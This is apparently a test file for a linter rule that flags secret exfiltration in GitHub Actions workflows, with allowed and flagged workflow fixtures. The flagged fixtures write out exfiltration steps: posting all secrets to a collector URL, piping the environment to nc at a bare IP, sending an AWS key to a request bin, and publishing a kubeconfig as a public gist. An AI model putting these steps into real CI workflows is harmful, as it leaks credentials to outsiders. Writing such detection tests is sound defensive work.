import { testRule } from '../testing/rule-tester.js';
import rule from './secret-exfiltration.js';

testRule(rule, {
  valid: [
    {
      name: 'a named secret authenticating to the service it belongs to',
      files: `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - env:
          TOKEN: \${{ secrets.API_TOKEN }}
        run: |
          curl -fsS -H "Authorization: Bearer $TOKEN" https://api.example.com/v1/deploy
          curl -X POST "\${{ secrets.SLACK_WEBHOOK_URL }}" -d '{"text":"done"}'
          wget --header="PRIVATE-TOKEN: \${{ secrets.GITLAB_TOKEN }}" https://gitlab.com/api/v4/projects
`,
    },
    {
      name: 'decoding a secret into a file, and encodings captured or written to files',
      files: `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    env:
      KEYSTORE: \${{ secrets.ANDROID_KEYSTORE_B64 }}
    steps:
      - run: |
          echo "$KEYSTORE" | base64 -d > release.keystore
          echo "$KEYSTORE" | base64 --decode > /tmp/k
          AUTH=$(echo -n "user:$KEYSTORE" | base64 -w0)
          echo "$KEYSTORE" | base64 > encoded.txt
`,
    },
    {
      name: 'env dumps in a step without secrets, and artifacts without secret files',
      files: `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          env | sort
          env > env.txt
          curl -d "$(env)" https://ci-stats.example.com/collect
      - uses: actions/upload-artifact@v4
        with:
          path: env.txt
`,
    },
    {
      name: 'comment actions without secrets, and a github-script that reads a secret outside the call that posts',
      files: `on: pull_request_target
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: marocchino/sticky-pull-request-comment@v2
        with:
          message: "Preview ready for \${{ github.event.pull_request.head.sha }}"
          GITHUB_TOKEN: \${{ secrets.GITHUB_TOKEN }}
      - uses: actions/github-script@v7
        env:
          API_KEY: \${{ secrets.STATUS_API_KEY }}
        with:
          script: |
            const res = await fetch('https://status.example.com/api', { headers: { authorization: process.env.API_KEY } });
            const state = (await res.json()).state;
            await github.rest.issues.createComment({ ...context.repo, issue_number: context.issue.number, body: \`Status: \${state}\` });
`,
    },
    {
      name: 'a token file removed before the workspace is cached',
      files: `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${SEALIGHTS_TOKEN}" > sltoken.txt
        env:
          SEALIGHTS_TOKEN: \${{ secrets.SEALIGHTS_TOKEN }}
      - run: ./slcli config init --token ./sltoken.txt
      - run: rm -f sltoken.txt
      - uses: actions/cache@v4
        with:
          path: \${{ github.workspace }}
          key: workspace-\${{ github.run_id }}
`,
    },
    {
      name: 'a secret written to a file that is uploaded only with other paths',
      files: `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ secrets.NPM_TOKEN }}" > .npmrc
      - uses: actions/upload-artifact@v4
        with:
          path: |
            dist/
            coverage/
`,
    },
  ],
  invalid: [
    {
      name: 'every secret posted to a URL (the worm pattern)',
      files: `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          curl -s -X POST https://collector.example.net/ingest -d '\${{ toJSON(secrets) }}'
`,
      errors: [{ messageId: 'dump', line: 7, column: 11, severity: 'high', message: 'every secret' }],
    },
    {
      name: 'the environment of a step holding secrets, substituted into a request and piped to nc',
      files: `on: pull_request_target
jobs:
  a:
    runs-on: ubuntu-latest
    env:
      NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
    steps:
      - run: |
          curl -d "$(env)" https://telemetry.example.org/c
          printenv | nc 203.0.113.7 4444
`,
      errors: [
        { messageId: 'dump', line: 9, column: 11, severity: 'critical', message: 'the whole environment' },
        { messageId: 'dump', line: 10, column: 11, endColumn: 41, severity: 'critical' },
      ],
    },
    {
      name: 'a named secret sent to a request bin, a bare IP and over plain http',
      files: `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - env:
          AWS_SECRET_ACCESS_KEY: \${{ secrets.AWS_SECRET_ACCESS_KEY }}
        run: |
          curl "https://webhook.site/3f1c2a9e?k=$AWS_SECRET_ACCESS_KEY"
          wget -q -O- "http://198.51.100.20/p?d=\${{ secrets.DEPLOY_KEY }}"
          curl --data "t=\${{ secrets.GH_PAT }}" http://metrics.example.com/t
`,
      errors: [
        { messageId: 'network', line: 9, column: 11, message: 'request-capture' },
        { messageId: 'network', line: 10, column: 11, message: 'bare IP' },
        { messageId: 'network', line: 11, column: 11, message: 'plain http' },
      ],
    },
    {
      name: 'a secret printed base64- and hex-encoded to the log',
      files: `on: workflow_dispatch
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - env:
          SIGNING_KEY: \${{ secrets.SIGNING_KEY }}
        run: |
          echo "$SIGNING_KEY" | base64 | base64
          xxd -p <<< "\${{ secrets.DB_PASSWORD }}"
          printf '%s' "$SIGNING_KEY" | base64 -w0 | tr -d '\\n'
`,
      errors: [
        { messageId: 'encoded', line: 9, column: 11, endColumn: 48, severity: 'medium', message: 'base64-encoded' },
        { messageId: 'encoded', line: 10, column: 11, severity: 'medium', message: 'hex-encoded' },
        { messageId: 'encoded', line: 11, column: 11, severity: 'medium' },
      ],
    },
    {
      name: 'secrets posted to a gist and a pull request comment',
      files: `on: pull_request_target
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - env:
          GH_TOKEN: \${{ github.token }}
          KUBECONFIG_DATA: \${{ secrets.KUBECONFIG }}
        run: |
          echo "$KUBECONFIG_DATA" | gh gist create --public -f kubeconfig
          gh pr comment \${{ github.event.number }} --body "debug: \${{ secrets.DEPLOY_TOKEN }}"
`,
      errors: [
        { messageId: 'gist', line: 10, column: 11, severity: 'critical', message: 'public gist' },
        { messageId: 'comment', line: 11, column: 11, severity: 'critical' },
      ],
    },
    {
      name: 'secrets in the text of comment actions and of a github-script that posts',
      files: `on: pull_request_target
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: peter-evans/create-or-update-comment@v4
        with:
          issue-number: \${{ github.event.number }}
          body: "Preview deployed with key \${{ secrets.PREVIEW_DEPLOY_KEY }}"
      - uses: actions/github-script@v7
        env:
          STAGING_PASSWORD: \${{ secrets.STAGING_PASSWORD }}
        with:
          script: |
            await github.rest.issues.createComment({
              ...context.repo, issue_number: context.issue.number,
              body: \`Staging login: admin / \${process.env.STAGING_PASSWORD}\`,
            });
`,
      errors: [
        { messageId: 'commentAction', line: 9, column: 44, severity: 'critical', message: 'secret PREVIEW_DEPLOY_KEY' },
        { messageId: 'commentAction', line: 17, column: 47, severity: 'critical', message: 'secret STAGING_PASSWORD' },
      ],
    },
    {
      name: 'an env dump and a token file uploaded as an artifact, a secret file cached',
      files: `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    env:
      PYPI_TOKEN: \${{ secrets.PYPI_TOKEN }}
    steps:
      - run: |
          mkdir -p debug
          env > debug/env.txt
          echo "\${{ secrets.NPM_TOKEN }}" > .npmrc
          echo "//registry.npmjs.org/:_authToken=$PYPI_TOKEN" | tee build/auth.cfg
      - uses: actions/upload-artifact@v4
        with:
          name: debug
          path: |
            debug/
            .npmrc
      - uses: actions/cache@v4
        with:
          path: build/**
          key: build-\${{ github.sha }}
`,
      errors: [
        { messageId: 'stored', line: 10, column: 11, severity: 'medium', message: 'uploads as an artifact' },
        { messageId: 'stored', line: 11, column: 11, severity: 'medium', message: '`.npmrc`' },
        { messageId: 'stored', line: 12, column: 11, severity: 'medium', message: 'saves in a cache' },
      ],
    },
  ],
});
